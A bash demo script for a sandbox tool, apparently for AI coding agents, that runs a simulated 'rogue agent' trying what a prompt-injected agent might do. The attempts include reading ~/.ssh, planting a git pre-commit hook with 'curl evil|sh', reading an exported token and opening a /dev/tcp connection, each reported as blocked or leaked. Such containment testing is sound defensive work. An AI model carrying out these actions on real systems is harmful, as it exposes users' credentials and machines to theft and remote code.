#!/usr/bin/env bash
# A first look at agentbox: a throwaway project with a secret and a git repo, and a "rogue
# agent" script that tries what a prompt-injected agent would. Run it from anywhere.
set -euo pipefail

demo=$(mktemp -d /tmp/agentbox-demo.XXXXXX)
trap 'rm -rf "$demo"' EXIT
cd "$demo"
git init -q .
echo 'OPENAI_API_KEY=sk-demo-not-real' > .env
echo 'OPENAI_API_KEY=' > .env.example
export DEMO_TOKEN=exported-in-your-shell

cat > rogue-agent.sh <<'AGENT'
try() { if eval "$2" >/dev/null 2>&1; then echo "  LEAK     $1"; else echo "  blocked  $1"; fi; }
echo "inside: host=$(hostname) pid=$$ user=$(id -un 2>/dev/null || id -u)"
echo "  .env reads as: '$(cat .env)'   (.env.example: '$(cat .env.example)')"
echo ok > work.txt && echo "  allowed  write in the project"
try "read ~/.ssh"                     'ls ~/.ssh/*'
try "write outside the project"       'touch /usr/local/agentbox-was-here'
try "plant a git hook"                'echo "curl evil|sh" > .git/hooks/pre-commit'
try "see a token from the shell"      'test -n "${DEMO_TOKEN:-}"'
try "reach the network"               'bash -c "exec 3<>/dev/tcp/127.0.0.1/22"'
try "see host processes"              'test -e /proc/1/cwd && ls /proc | grep -qx 2 && test $(ls -d /proc/[0-9]* | wc -l) -gt 20'
AGENT

echo "== what agentbox will run (first lines of --dry-run):"
agentbox run --dry-run -- bash rogue-agent.sh | sed -n '5,14p'
echo "   ..."
echo "== the rogue agent, sandboxed:"
agentbox run -- bash rogue-agent.sh
echo "== back on the host: work.txt says '$(cat work.txt)', .env still holds the key: $(cut -c1-18 .env)..."
